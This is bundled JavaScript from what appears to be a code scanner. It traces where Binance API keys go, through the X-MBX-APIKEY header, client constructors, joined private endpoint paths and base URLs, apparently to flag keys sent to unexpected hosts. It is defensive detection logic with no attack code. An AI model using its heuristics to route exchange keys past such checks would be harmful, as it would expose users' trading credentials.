/** Names of variables that hold clients with a key: `client = Client(k, s)`. */
function clientNames(subject) {
	const names = /* @__PURE__ */ new Set();
	const starts = /* @__PURE__ */ new Map();
	for (const { path, via, span, value } of subject.reading.bindings) if (via === "assign" && value.kind !== "text") starts.set(span.start, path.at(-1) ?? "");
	const { text } = subject.document;
	for (const call of subject.reading.calls.slice(0, 2e4)) {
		const at = [call.span.start, ...[
			"new ",
			"await ",
			"&",
			"new \\",
			"await new ",
			"*"
		].map((word) => call.span.start - word.length)].find((start) => starts.has(start));
		if (at === void 0 || at !== call.span.start && !/^(?:new |await |&|\*|new \\)/.test(text.slice(at, at + 6))) continue;
		if (isConfiguration(call, subject) || isKeyed(call, subject)) names.add(starts.get(at));
	}
	if (subject.reading.language === "go") for (const one of subject.reading.imports) {
		if (!/binance/i.test(one)) continue;
		names.add(one.split("/").at(-1)).add(packageName(one));
		for (const [alias, name] of aliasesOf(subject)) if (name === packageName(one)) names.add(alias);
	}
	return names;
}
/** The names of mappings that clients with a key are given: `new Spot(key, secret, options)`. */
function optionNames(subject) {
	const names = /* @__PURE__ */ new Set();
	for (const call of subject.reading.calls.slice(0, 2e4)) {
		const named = call.args.slice(0, 20).flatMap(({ path, value }) => path.length === 1 && value.kind === "ref" ? value.path.slice(-1) : []);
		if (named.length > 0 && isKeyed(call, subject)) {
			for (const name of named) if (!isKeyName(name)) names.add(name);
		}
	}
	return names;
}
function isKeyed(call, subject) {
	return isSdkCall(call, subject) && isGivenKey(call, subject);
}
/** `ClientConfiguration c = SpotRestApiUtil.getClientConfiguration()` */
function isConfiguration({ callee }, { reading }) {
	return /^(?:get|new)?(?:Client|Rest)?Configuration(?:Rest|RestAPI|RestApi)?$/i.test(callee.at(-1) ?? "") && reading.imports.some((one) => /binance/i.test(one));
}
/** What is handed over beside keys: nothing, and what sends or logs. */
const neutral = /^(?:undefined|null|none|nil|true|false|_)$|http|client$|logger|^log$|session|agent|loop|ctx|context|proxy|timeout|testnet|symbol|url|uri|host|base|endpoint/i;
const spread = /\.\.\.\s{0,9}[$\w(]|\*\*\s{0,9}[\w(]/;
/** `{ apiKey, apiSecret }` */
const shorthand = /(?<=[{,]\s{0,40})([A-Za-z_$][\w$]{1,60})\s{0,40}(?=[,}])/g;
const mostOfChain$1 = 60;
const longestCall$2 = 4e3;
const given = /* @__PURE__ */ new WeakMap();
/**
* False only for a client that is given no key: not in its arguments, by a step of its chain or as a member later. Those
* of nautilus_trader take theirs from the environment.
*/
function isGivenKey(call, subject) {
	let is = given.get(call);
	if (is === void 0) given.set(call, is = takesKey(call, subject));
	return is;
}
function takesKey(call, subject) {
	const { text } = subject.document;
	const { span, callee } = call;
	if (/ClientConfig$/.test(callee.at(-1) ?? "") || span.end - span.start > longestCall$2) return true;
	const source = text.slice(span.start, span.end);
	if (spread.test(source) || [...source.matchAll(shorthand)].some(([, name]) => isKeyName(name) || /cred|auth/i.test(name))) return true;
	if ([call, ...callsWithin(subject.reading, {
		start: span.start,
		end: span.start + longestCall$2
	}, mostOfChain$1).filter((one) => one.span.start === span.start || one.span.start < span.end)].some((one) => isKeyStep(one) || one.args.slice(0, 100).some((argument) => mayBeKey(argument, text)))) return true;
	const holder = holdersIn(subject.reading)(call)?.path.at(-1);
	return holder !== void 0 && isGivenLater(holder.replace(/\W/g, ""), subject);
}
/** `.api_key(k)`, `WithApiSecret(s)` */
function isKeyStep({ callee, args }) {
	const last = (callee.at(-1) ?? "").replace(/^(?:with|set)_?/i, "");
	return args.length > 0 && (isKeyName(last) || /cred|auth|hmac|signer|sign/i.test(last));
}
function mayBeKey({ path, value, span, via }, text) {
	const name = path.findLast((step) => !/^\d*$/.test(step)) ?? "";
	const isNamed = name !== "";
	if (isNamed && !isKeyName(name) && !/cred|auth|key|secret|sign/i.test(name)) return false;
	switch (value.kind) {
		case "text": return value.text.trim() !== "" && !/^(?:https?|wss?):/.test(value.text);
		case "ref": return !neutral.test(value.path.at(-1) ?? "");
		case "unknown": return isNamed || via === "argument" && !/^(?:\{|\[|\(?[\w\s,]*\)?\s*=>|function|lambda|new\s)/.test(text.slice(span.start, span.end)) && !neutral.test(text.slice(span.start, span.start + 40));
		default: return false;
	}
}
const keysGiven = /(\w{1,80})\s{0,9}[?!]?(?:\.|->|::|\[["'])\s{0,9}(?:set_?)?(?:api_?key|secret|api_?secret|private_?key|key|credentials?|auth\w{0,20}|options|login)\b/gi;
const namesGiven = /* @__PURE__ */ new WeakMap();
/** `exchange.apiKey = k`, `client.setApiKey(k)`, `exchange.options({ … })` */
function isGivenLater(name, subject) {
	let names = namesGiven.get(subject);
	if (!names) namesGiven.set(subject, names = new Set([...subject.document.text.matchAll(keysGiven)].map(([, one]) => one)));
	return name === "" || names.has(name);
}
// ../engine/dist/risks/calls/key-header.js
/** Which requests carry the header of Binance’s keys, X-MBX-APIKEY, whoever they go to. */
const sending = /* @__PURE__ */ new WeakMap();
/** Whether the file sends that header at all. */
function sendsKey(subject) {
	let sends = sending.get(subject);
	if (sends === void 0) sending.set(subject, sends = !subject.isProse && /x-mbx-apikey/i.test(subject.document.text));
	return sends;
}
const carriersKnown = /* @__PURE__ */ new WeakMap();
/** The names of requests, sessions and headers that have it. */
function carriersOf(subject) {
	let carriers = carriersKnown.get(subject);
	if (!carriers) carriersKnown.set(subject, carriers = carriersIn(subject));
	return carriers;
}
/** Whether what a call makes is given the header by its name, before the name stands for another thing. */
function getsHeader(name, { span }, subject) {
	if (!carriersOf(subject).has(name) || !/^\w+$/.test(name)) return false;
	const { text } = subject.document;
	const binding = new RegExp(`(?<![\\w.])${name}\\b[^\\n.[(=]{0,60}=(?!=)`, "g");
	const behind = text.slice(span.end, span.end + longestChain);
	const next = behind.search(binding);
	if (anyHeader.test(next < 0 ? behind : behind.slice(0, next))) return true;
	return next < 0 && [...text.slice(Math.max(0, span.start - longestChain), span.start).matchAll(binding)].length < 2;
}
/** A request that carries the key of Binance, whoever it goes to. */
function isHeaderSent(call, subject) {
	let sent = headerSent.get(call);
	if (sent === void 0) headerSent.set(call, sent = hasHeader(call) || isCarried(call, subject) || isBuiltWithHeader(call, subject));
	return sent;
}
/** What sends headers of its own sends those, and not the ones of other calls. */
function hasOtherHeaders(call, subject) {
	return !isHeaderSent(call, subject) && call.args.slice(0, 100).some(({ path }) => path.some((step) => /^headers?$/i.test(step)));
}
const headerSent = /* @__PURE__ */ new WeakMap();
function hasHeader(call) {
	return call.args.some(({ path, value }) => path.some((step) => /^x-mbx-apikey$/i.test(step)) || value.kind === "text" && /^x-mbx-apikey\b/i.test(value.text));
}
const header$1 = /^x-mbx-apikey$/i;
const anyHeader = /x-mbx-apikey/i;
const ofHeaders = /^(?:headers?|common|defaults|this|self|update|set|add)$/i;
/** What gives a header to what it is called on; a request that has one of its own gives it to nothing else. */
const sets = /header|^(?:set|add|with|insert|append|put|update|default|assign|merge|config)/i;
/** `WebClient.builder().defaultHeader(…)`, `resty.New().SetHeader(…)`: what is called there has a name of its own, or none. */
function isMade(callee) {
	return /^[A-Z]\w*[a-z]/.test(callee[0]) || callee.slice(1, -1).some((step) => /^(?:builder|new|create|extend)$/i.test(step));
}
/** `HEADERS = { 'X-MBX-APIKEY': k }`, `session.headers.update(…)`, `req.Header.Set(…)`: by the last name that says which. */
function carriersIn({ settings, reading, document: { text } }) {
	const carriers = /* @__PURE__ */ new Set();
	if (!/x-mbx-apikey/i.test(text)) return carriers;
	/** Where mappings of a name begin that have the header, and others. */
	const having = /* @__PURE__ */ new Map();
	const others = /* @__PURE__ */ new Map();
	for (const { path, container, call } of settings) {
		if (call || path.length < 2) continue;
		const at = path.findIndex((step) => header$1.test(step));
		const owner = path.slice(0, at < 0 ? -1 : at);
		const name = owner.findLast((step) => !ofHeaders.test(step)) ?? owner[0];
		if (name !== void 0) require_gates.addToSet(at < 0 ? others : having, name, container);
	}
	for (const [name, containers] of having) if ([...others.get(name) ?? []].every((container) => containers.has(container))) carriers.add(name);
	for (const { callee, args, span } of reading.calls) {
		if (callee.length < 2 || !args.slice(0, 20).some(({ path, value }) => path.some((step) => header$1.test(step)) || value.kind === "text" && header$1.test(value.text))) continue;
		const name = callee.slice(0, -1).findLast((step) => !ofHeaders.test(step));
		if (name !== void 0 && callee.slice(0, -1).some((step) => /^headers?$/i.test(step))) carriers.add(name);
		else if (sets.test(callee.at(-1)) && !isMade(callee)) carriers.add(callee[0]);
		const opened = /^\s{1,9}as\s{1,9}(\w{1,60})/.exec(text.slice(span.end, span.end + 80))?.[1];
		if (opened !== void 0) carriers.add(opened);
	}
	for (const { 1: name, 2: given = "" } of text.matchAll(entityNamed)) if (hasAny(given, carriers)) carriers.add(name);
	return carriers;
}
/** What carries headers to a request: `new HttpEntity<>(body, headers)`, and the name of it. */
const entity = /\b\w{0,20}Entity\s{0,2}(?:<[^<>()\n]{0,80}>)?\(([^()\n]{1,120})\)/g;
const entityNamed = /\b(\w{1,60})\s{0,4}=\s{0,4}(?:new\s{1,4})?\w{0,20}Entity\s{0,2}(?:<[^<>()\n]{0,80}>)?\(([^()\n]{1,120})\)/g;
function hasAny(given, carriers) {
	return given.split(",").some((one) => carriers.has(one.trim()));
}
/** `Request.Builder().url(…).header('X-MBX-APIKEY', key)` */
function isBuiltWithHeader({ span: { start } }, subject) {
	if (!sendsKey(subject)) return false;
	return callsWithin(subject.reading, {
		start,
		end: start + longestChain
	}, mostOfChain).some((one) => one.span.start === start && one.callee.length > 1 && hasHeader(one));
}
const longestChain = 2e3;
const mostOfChain = 40;
/** A request by what has the header: `session.get(…)`, `fetch(url, { headers })`. */
function isCarried({ callee, args, span }, subject) {
	const carriers = carriersOf(subject);
	if (carriers.size === 0) return false;
	const source = subject.document.text.slice(span.start, Math.min(span.end, span.start + longestChain));
	if (/Entity/.test(source) && [...source.matchAll(entity)].some(([, given = ""]) => hasAny(given, carriers))) return true;
	if (carriers.has("headers") && /[{,]\s{0,40}headers\s{0,40}[,}]/.test(source)) return true;
	return /^(?:get|post|put|delete|patch|request|head)$/i.test(callee.at(-1) ?? "") && carriers.has(callee.at(-2) ?? "") || args.slice(0, 100).some(({ path, value }) => value.kind === "ref" && /^(?:headers?|\d*)$/i.test(path.at(-1) ?? "") && carriers.has(value.path.at(-1) ?? ""));
}
// ../engine/dist/risks/calls/joined-paths.js
/**
* The names that a document joins with a path of Binance’s API which needs a key, in a file that sends one:
* `gateway + "/api/v3/account"`, `f"{ROOT}/fapi/v2/balance"`. What they stand for gets the key.
*/
const apiPath = /\/?\b(api|sapi|fapi|dapi|papi|eapi|wapi)\/v\d(?:\/([\w/-]{0,60}))?/g;
/** Endpoints that anyone may ask, in every API of Binance’s. */
const open = /^(?:ping|time|exchangeInfo|depth|trades|historicalTrades|aggTrades|klines|uiKlines|continuousKlines|indexPriceKlines|markPriceKlines|premiumIndex\w*|fundingRate|fundingInfo|ticker(?:\/.*)?|avgPrice|openInterest\w*|index|mark|constituents|assetIndex|indexInfo|executionRules|system\/status)\/?$/i;
/** Of `api/v3`, which other services have too, what Binance’s has. */
const ofSpot = /^(?:account\w*|order\w*|openOrders?|allOrders?|openOrderList|allOrderList|myTrades|myPreventedMatches|myAllocations|myFilters|rateLimit|sor|userDataStream\w*)(?:\/|$)|^$/i;
const step = "[A-Za-z_]\\w{0,60}";
/** A name with what it stands in: `this.base`, `self::ROOT`, `@gateway`, `$this->gw`. */
const name$2 = `[$@]{0,2}(?:${step}\\s{0,2}(?:\\.|->|::)\\s{0,2}\\$?){0,5}(${step})`;
/** What may stand between a name and the path in the text that is joined. */
const before = new RegExp(`(?:${[
	`[{(]\\s{0,4}${name$2}(?:\\(\\))?\\s{0,4}[})]{1,2}["']?`,
	`\\$${name$2}["']?`,
	`${name$2}(?:\\(\\)|\\.\\w{1,12}\\([^()\\n]{0,6}\\)){0,2}\\s{0,20}(?:\\+{1,2}|<<|\\.{1,2}|<>|&|\\*|\\|\\||~|,|\\/|)\\s{0,20}[a-zA-Z@$]{0,2}["'\`]`,
	`${name$2}\\s{0,4}\\.\\s{0,4}(?:join|resolve|concat|append\\w{0,20}|with_?path)\\(\\s{0,9}["'\`]`
].join("|")})$`);
/** "%s/…", "{}/…", "{0}/…" */
const slot = /(["'`])(?:%(?:\d\$)?[sv@]|%\d%|\{\d?\})$/;
/** What fills the slot: `, ROOT`, `.format(ROOT)`, `% ROOT` */
const filler = new RegExp(`^\\s{0,20}(?:\\.format(?:ted)?\\(|%\\s{0,4}\\(?|,)\\s{0,20}${name$2}`);
/** `new URL("/api/v3/account", ROOT)` */
const urlOf = /\bur[li]\(\s{0,9}["'`]$/i;
const reach$2 = 200;
const mostPaths = 2e3;
const known$9 = /* @__PURE__ */ new WeakMap();
/** Whether the setting gives its value to a name that is joined with such a path, or is the address of a request. */
function isJoined({ path, span, via }, subject) {
	let joined = known$9.get(subject);
	if (!joined) known$9.set(subject, joined = sendsKey(subject) ? collect(subject) : none$1);
	const { names, addresses } = joined;
	if (via !== "argument" && names.has(path.findLast((step) => !/^\d*$/.test(step)) ?? "")) return true;
	const next = addresses[countBefore(addresses.length, (i) => addresses[i] < span.start)];
	return next !== void 0 && next < span.end;
}
const none$1 = {
	names: /* @__PURE__ */ new Set(),
	addresses: []
};
function collect(subject) {
	const { text } = subject.document;
	/** By the name the places where it is joined. */
	const places = /* @__PURE__ */ new Map();
	let count = 0;
	for (const { 0: whole, 1: family, 2: rest = "", index } of text.matchAll(apiPath)) {
		if ((count += 1) > mostPaths) break;
		if (open.test(rest) || family === "api" && !ofSpot.test(rest)) continue;
		const source = text.slice(Math.max(0, index - reach$2), index);
		const told = nameBefore(source) ?? nameBehind(source, text.slice(index + whole.length, index + whole.length + reach$2));
		if (told !== void 0) require_gates.addToGroup(places, told, index);
	}
	/** Of those that are the whole address: they tell of what they are made from, and of nothing else that is called so. */
	const whole = /* @__PURE__ */ new Map();
	for (const call of subject.reading.calls) for (const { name, isWhole } of namesInUrl(call, subject)) require_gates.addToGroup(isWhole ? whole : places, name, call.span.start);
	const joined = definedBy(places, text);
	const addresses = [...joined.addresses, ...madeFor(whole, text)].sort((a, b) => a - b);
	return {
		names: joined.names,
		addresses
	};
}
const mostNames$2 = 60;
/** What may stand before an address that gets a name: the type of it and a sign, in any language. */
const binding = "\\b[\"'`\\]]{0,2}(?:[ \\t]{1,4}string|[ \\t]{0,4}:[^\\n\"'`=]{1,40}?)?[ \\t]{0,20}(?::?=>?|:|<-|[({]|(?=[ \\t\"']))[ \\t]{0,20}";
const address = "[\"'`]?(?=(?:https?|wss?)://)";
/** `fmt.Sprintf("https://…", path)`, `format!("…")`, `URI.create("…" + query)` */
const maker = "(?:new[ \\t]{1,4})?[\\w.:!]{1,40}\\([ \\t]{0,4}[a-zA-Z@$]{0,2}";
/** By the names where the addresses begin that they are given, in the order of the text. */
function definitionsOf(names, text, made = "") {
	const definitions = /* @__PURE__ */ new Map();
	const pattern = new RegExp(`(?<!\\w)(${names.join("|")})${binding}${made}${address}`, "g");
	for (const { 0: whole, 1: name = "", index } of text.matchAll(pattern)) require_gates.addToGroup(definitions, name, index + whole.length);
	return definitions;
}
/** Of names that several classes have each place means the definition before it. */
function definedBy(places, text) {
	const names = [...places.keys()].slice(0, mostNames$2);
	if (names.length === 0) return none$1;
	const definitions = definitionsOf(names, text);
	const addresses = /* @__PURE__ */ new Set();
	for (const [name, those] of definitions) for (const place of places.get(name) ?? []) addresses.add(those[Math.max(0, countBefore(those.length, (i) => those[i] < place) - 1)]);
	return {
		names: new Set(names.filter((name) => !definitions.has(name))),
		addresses: [...addresses].sort((a, b) => a - b)
	};
}
const farthest$1 = 4e3;
/** The addresses that a call makes of which a name is the whole, at the places: nothing else may get the name between. */
function madeFor(places, text) {
	const names = [...places.keys()].slice(0, mostNames$2);
	if (names.length === 0) return [];
	const found = [];
	for (const [name, those] of definitionsOf(names, text, maker)) {
		const bound = new RegExp(`(?<!\\w)${name}\\s{0,4}:?=(?![=>])`);
		for (const place of places.get(name) ?? []) {
			const made = those[countBefore(those.length, (i) => those[i] < place) - 1];
			if (made !== void 0 && place - made < farthest$1 && !bound.test(text.slice(made, place))) found.push(made);
		}
	}
	return found;
}
function nameBefore(source) {
	return before.exec(source)?.slice(1).find((one) => one !== void 0);
}
function nameBehind(source, rest) {
	const quote = slot.exec(source)?.[1] ?? (urlOf.test(source) ? source.at(-1) : void 0);
	if (quote === void 0) return void 0;
	const end = rest.indexOf(quote);
	return end < 0 ? void 0 : filler.exec(rest.slice(end + 1))?.[1];
}
const ofUrl = /^(?:0|1|url|uri)$/i;
const beginning = new RegExp(`^(?:[a-zA-Z$@]{0,2}["'\`]\\s{0,2}(?:\\$\\{|\\{\\$?|#\\{|\\\\\\(|\\$))?${name$2}\\s{0,4}(?=[}+)/~*]|\\.{1,2}\\s{0,2}["'\`$]|<>)`);
/** The name alone, lent or copied. */
const alone$2 = new RegExp(`^&?\\s{0,2}${name$2}(?:\\.(?:clone|as_?str|to_?string|get_?url)\\(\\))?$`, "i");
/** `fetch(root + path, { headers })`: the name that the address of a request with the key begins with, or is. */
function namesInUrl(call, subject) {
	const { args } = call;
	if (args.length === 0 || args.length > 12) return [];
	const parts = args.filter(({ path, value }) => (value.kind === "unknown" || value.kind === "ref") && ofUrl.test(path.at(-1) ?? ""));
	if (parts.length === 0) return [];
	const holder = holdersIn(subject.reading)(call)?.path.at(-1);
	if (!isHeaderSent(call, subject) && !(holder !== void 0 && carriersOf(subject).has(holder))) return [];
	return parts.flatMap(({ span }) => {
		const source = subject.document.text.slice(span.start, Math.min(span.end, span.start + reach$2));
		const isWhole = alone$2.test(source);
		const name = (isWhole ? alone$2 : beginning).exec(source)?.[1];
		return name === void 0 ? [] : [{
			name,
			isWhole
		}];
	});
}
// ../engine/dist/risks/calls/key-clients.js
/**
* Which addresses a document gives to clients that send the header X-MBX-APIKEY, where another statement gives them the
* header: an interceptor, default headers, a block around both. By lines and how far these are indented, in any language.
*/
const known$8 = /* @__PURE__ */ new WeakMap();
function keyClientsOf(subject) {
	let clients = known$8.get(subject);
	if (!clients) known$8.set(subject, clients = sendsKey(subject) ? find(subject) : none);
	return clients;
}
const none = {
	has: () => false,
	any: false
};
const header = /x-mbx-apikey/gi;
const url = /(?:https?|wss?):\/\/[\w.-]{3,}/gi;
/** Names of modules, which all requests go by. */
const modules = /^(?:axios|requests?|https?|httpx|fetch|reqwest|aiohttp|curl|net|this|self|super|return|await|const)$/i;
/** Names that a block has of its own. */
const passing = /^(?:\w{1,2}|req|res|cfg|config|chain|it|builder|headers?)$/i;
/** What a line binds or begins with, and what a block is called. */
const bound = /^[ \t]*(?:(?:export|public|private|protected|internal|static|final|readonly|override|const|let|var|val|auto|my|local|mut|lazy|pub|fn|fun|func|def|defp|function|async|class|object|struct|impl|interface|module|defmodule|data|open|abstract|sealed|suspend)[ \t]+){0,6}(?:[\w.<>\[\]?:*&]{1,80}[ \t]+)?[$@]{0,2}([A-Za-z_]\w{0,60})[ \t]*(?::[ \t]*[\w.<>\[\]? ]{1,80})?(?:=(?![=>])|:=|\.|->|\[|\(|\{|:[ \t]*$|<|$)/;
const mostEvidence = 400;
const mostNames$1 = 30;
const mostLines = 200;
const mostLevels = 4;
function find(subject) {
	const { text } = subject.document;
	const lines = new Lines(text);
	const addresses = addressesIn(subject);
	const places = [...text.matchAll(header)].slice(0, mostEvidence).map(({ index }) => index);
	const names = new Set([...carriersOf(subject)].filter((name) => !modules.test(name)));
	const firm = /* @__PURE__ */ new Set();
	const told = (at) => {
		const block = lines.around(at).find((one) => addresses.in(one).length > 0);
		const [only, ...more] = block ? addresses.in(block) : [];
		if (only !== void 0 && more.length === 0) firm.add(only);
	};
	const nameOf = (at) => {
		for (const block of lines.around(at)) {
			if (addresses.in(block).length > 0) return;
			const line = text.slice(block.start, Math.min(block.end, block.start + 400)).split("\n", 1)[0];
			const name = /^\s*@[A-Z]/.test(line) ? void 0 : bound.exec(line)?.[1];
			if (name !== void 0 && !modules.test(name) && !passing.test(name) && names.size < mostNames$1) names.add(name);
		}
	};
	places.forEach(told);
	places.forEach(nameOf);
	const seen = /* @__PURE__ */ new Set();
	for (let hop = 0; hop < 2; hop += 1) {
		const fresh = [...names].filter((name) => !seen.has(name));
		if (fresh.length === 0) break;
		for (const name of fresh) seen.add(name);
		const found = /* @__PURE__ */ new Map();
		const uses = [...text.matchAll(new RegExp(`(?<![\\w.])(?:${fresh.join("|")})\\b`, "g"))].slice(0, mostEvidence);
		for (const { 0: name, index } of uses) {
			const own = lines.around(index, 2).find((one) => addresses.in(one).length > 0);
			const [only, ...more] = own ? addresses.in(own) : [];
			if (only !== void 0 && more.length === 0) require_gates.addToSet(found, name, only);
			else if (!own && hop === 0) nameOf(index);
		}
		for (const [name, those] of found) if (those.size === 1 || !passing.test(name)) for (const one of those) firm.add(one);
	}
	const sorted = [...firm].sort((a, b) => a - b);
	return {
		any: sorted.length > 0,
		has: ({ start, end }) => {
			const next = sorted[countBefore(sorted.length, (i) => sorted[i] < start)];
			return next !== void 0 && next <= end;
		}
	};
}
/** Where addresses stand, and names that stand for some. */
function addressesIn({ document: { text }, reading: { comments }, settings }) {
	const isComment = (at) => {
		const before = countBefore(comments.length, (i) => comments[i].start <= at);
		return before > 0 && at < comments[before - 1].end;
	};
	const found = /* @__PURE__ */ new Set();
	for (const { index } of text.matchAll(url)) if (!isComment(index)) found.add(index);
	for (const { value, span } of settings) if (value.kind === "text" && /^https?:/i.test(value.text) && !text.slice(span.start, span.end).includes("://")) found.add(span.start);
	const sorted = [...found].sort((a, b) => a - b);
	return { in: ({ start, end }) => {
		const first = countBefore(sorted.length, (i) => sorted[i] < start);
		return sorted.slice(first, countBefore(sorted.length, (i) => sorted[i] < end));
	} };
}
/** The lines of a text with how far each is indented. */
var Lines = class {
	#starts = [0];
	/** -1: blank. */
	#indents = [];
	#text;
	constructor(text) {
		this.#text = text;
		for (let at = text.indexOf("\n"); at >= 0; at = text.indexOf("\n", at + 1)) this.#starts.push(at + 1);
		for (const start of this.#starts) this.#indents.push(this.#indentAt(start));
	}
	/** The blocks around a place, from its own statement outwards. */
	*#blocks(at, most) {
		let line = countBefore(this.#starts.length, (i) => this.#starts[i] <= at) - 1;
		for (let level = 0; level < most && line >= 0; level += 1) {
			yield this.#blockAt(line);
			const indent = this.#indents[line];
			let head = line - 1;
			while (head >= 0 && line - head < mostLines && (this.#indents[head] === -1 || this.#indents[head] >= indent)) head -= 1;
			if (head < 0 || line - head >= mostLines) {
				if (indent === 0 || head < 0) yield {
					start: 0,
					end: this.#text.length
				};
				return;
			}
			line = head;
		}
	}
	around(at, most = mostLevels) {
		return [...this.#blocks(at, most)];
	}
	/** A line with those that are indented further below it, the bracket that closes it, and the annotations above. */
	#blockAt(line) {
		const indent = this.#indents[line];
		let last = line;
		for (let next = line + 1; next < this.#starts.length && next - line < mostLines; next += 1) {
			const here = this.#indents[next];
			if (here === -1) continue;
			const first = this.#text.charAt(this.#starts[next] + here);
			if (here > indent || here === indent && /[.)}\]|]/.test(first)) last = next;
			else break;
		}
		let from = line;
		while (from > 0 && line - from < 20 && this.#indents[from - 1] === indent && this.#isAnnotation(from - 1)) from -= 1;
		return {
			start: this.#starts[from],
			end: this.#starts[last + 1] ?? this.#text.length
		};
	}
	#isAnnotation(line) {
		const start = this.#starts[line] + this.#indents[line];
		return /^(?:@[A-Z]|#\[|\[[A-Z])/.test(this.#text.slice(start, start + 3));
	}
	#indentAt(start) {
		let at = start;
		while (at < this.#text.length && (this.#text[at] === " " || this.#text[at] === "	")) at += 1;
		return at === this.#text.length || this.#text[at] === "\n" || this.#text[at] === "\r" ? -1 : at - start;
	}
};
// ../engine/dist/risks/calls/base-urls.js
/** What makes an address the base URL of a client that is given a key of Binance’s, or the target of a request that has one. */
/** Undefined where nothing tells that the address of the setting gets a key of Binance’s. */
function reasonOf(setting, subject) {
	const { name, path, call } = setting;
	const steps = path.filter((step) => !/^\d*$/.test(step));
	if (isJoined(setting, subject) && !isOfOtherExchange(setting, subject)) return "header";
	if (isForOthers(setting, steps) || isOfOtherExchange(setting, subject)) return void 0;
	const isBase = baseNames.test(name);
	const inUrls = steps.slice(0, -1).some((step) => /^(?:urls?|api|hosts?|endpoints?|environment)$/i.test(step));
	const named = {
		steps,
		isBase,
		inUrls,
		isShort: shortNames.test(name) || inUrls
	};
	if (isOfKeyClient(setting, subject, named)) return "header";
	return call ? reasonOfArgument({
		...setting,
		call
	}, subject, named) : reasonOfMember(setting, subject, named);
}
/** The same for a host without a scheme: of a request with the header, or of a connection on which one is made. */
function takesKeyAtHost(setting, subject) {
	const { name, path, call } = setting;
	if (!sendsKey(subject) || path.some((step) => /^(?:headers?|proxy|proxies|agent)$/i.test(step))) return false;
	const isHost = /^host(?:name)?$/.test(name);
	if (!call) return isHost && hasHeadersBeside(setting, subject);
	if (isHost && isHeaderSent(call, subject)) return true;
	if (!connections.test(call.callee.at(-1) ?? "") || !(isHost || path.length === 1 && path[0] === "0")) return false;
	const held = holdersIn(subject.reading)(call)?.path.at(-1);
	return held !== void 0 && /^\w+$/.test(held) && (getsHeader(held, call, subject) || isAskedWithHeader(held, call, subject));
}
/** `{ hostname: "…", headers: { "X-MBX-APIKEY": key } }` */
function hasHeadersBeside({ container }, subject) {
	return knowledgeOf$1(subject).withHeaders.has(container);
}
const connections = /^https?_?connection(?:_?pool)?$/i;
const longestUse = 4e3;
/** `connection.request("GET", path, headers={"X-MBX-APIKEY": key})`, before the name stands for another one. */
function isAskedWithHeader(name, { span }, subject) {
	const { reading, document } = subject;
	const until = span.end + longestUse;
	const bound = new RegExp(`(?<![\\w.])${name}\\s{0,4}=(?!=)`);
	return callsWithin(reading, {
		start: span.end,
		end: until
	}, 200).some((one) => one.callee.at(-2) === name && isHeaderSent(one, subject) && !bound.test(document.text.slice(span.end, one.span.start)));
}
/** A web hook, a page, a forward proxy. */
function isForOthers(setting, steps) {
	const last = steps.at(-1) ?? "";
	if (/proxy_?url$/i.test(last)) {
		if (/ClientConfig$/.test(setting.call?.callee.at(-1) ?? "")) return true;
	} else if (otherNames.test(setting.name) || proxyNames.test(last) && !isRelay(setting)) return true;
	return steps.some((step) => /^(?:proxy|proxies|agent)$/i.test(step)) && !isRelay(setting);
}
/** A forward proxy has no path: what has one, as ccxt’s `proxy`, is put before each address and gets the request itself. */
function isRelay({ name, value }) {
	return name === "proxy" && value.kind === "text" && /^https?:\/\/[^/?#\s]{1,253}\/[^\s/]/.test(value.text);
}
/** `.baseUrl("…")` of a builder whose client has the header from an interceptor. */
function isOfKeyClient({ name, span, call }, subject, { isBase, isShort }) {
	const setter = call?.callee.at(-1) ?? "";
	return keyClientsOf(subject).has(span) && (isBase || isShort || takers.test(name) || setters.test(setter) || takers.test(setter));
}
function reasonOfArgument(setting, subject, named) {
	const { name, path, call, via } = setting;
	const { steps, isBase, isShort } = named;
	const handedOn = handedOnTo(setting, subject);
	if (handedOn) return reasonOf(handedOn, subject);
	if (call.callee.some((step) => /builder|^Configuration/i.test(step)) && !isGivenKey(call, subject)) return void 0;
	if ((steps.length === 0 || via === "argument") && /^\d*$/.test(path[0] ?? "") && setters.test(call.callee.at(-1) ?? "")) return reasonOfSetter(call, subject);
	if (isSdkCall(call, subject)) {
		if (!isGivenKey(call, subject)) return void 0;
		if (steps.length === 0) return call.callee.at(-1) === "NewProxiedClient" ? void 0 : "sdk";
		return isBase || isShort || ofClient.test(name) ? "sdk" : void 0;
	}
	if (isOwnName(name, subject)) return "sdk";
	if ((isBase || shortNames.test(name)) && steps.length > 0 && hasKeysBeside(setting, subject)) return "with-keys";
	if (isBase && isOnlyClient(subject) && !hasOtherHeaders(call, subject)) return "header";
	const holder = holdersIn(subject.reading)(call)?.path.at(-1);
	if (holder !== void 0 && (steps.length === 0 || /^ur[il]$/.test(name)) && getsHeader(holder, call, subject)) return "header";
	if (isHeaderSent(call, subject)) return steps.length === 0 && path[0] === "0" || isBase || /^(?:url|uri)$/.test(name) ? "header" : void 0;
	return via === "entry" && isBase && saysBinance(steps) ? "own-name" : void 0;
}
/** `newBuilder(URI.create("…" + query))`: what only makes an address hands it to the call around it. */
function handedOnTo({ path, value, call }, subject) {
	if (path.length !== 1 || !/^(?:0|string|str|ur[il])$/i.test(path[0]) || !isMaker(call)) return void 0;
	const holder = holdersIn(subject.reading)(call);
	return holder?.call && {
		...holder,
		value,
		name: folded(holder.path.findLast((step) => !/^\d*$/.test(step)) ?? "")
	};
}
const ofClient = /proxyurl$|^proxy$|^(?:ws|wss|websocket)(?:api|base|stream)?(?:url|endpoint)$/;
/** `.base_path("…")`, `client.setUrl("…")` */
function reasonOfSetter(call, subject) {
	const clients = clientsOf(subject);
	if (call.callee.slice(0, -1).some((step) => require_worth_reading.meaningOf(step).binance === "name" || clients.names.has(step) || /^Configuration|signatureConf|clientConf|Credentials$/i.test(step)) || distinctSetter.test(call.callee.at(-1) ?? "") && importsBinance(subject)) return "sdk";
	return isHeaderSent(call, subject) ? "header" : void 0;
}
const distinctSetter = /path|base|proxy_?url|rest|uri|^(?:with|set)_?ws_?(?:endpoint|url)/i;
function reasonOfMember(setting, subject, named) {
	const { name, via } = setting;
	const { steps, isBase, isShort } = named;
	if (isOwnName(name, subject)) return "sdk";
	if (via === "entry" && (isBase || isShort) && clientsOf(subject).options.has(steps.at(-2) ?? "")) return "sdk";
	if (via === "assign" && steps.length > 1 && isOfClient(subject, named)) return "sdk";
	if (saysBinance(steps) && (isBase || isShort || /url$|uri$|endpoint$|host$/.test(name))) return "own-name";
	if (ofFrontEnd.test(steps.at(-1) ?? "")) return void 0;
	if (exchangeOf(setting, subject) === "binance" && (isBase || isShort)) return "own-name";
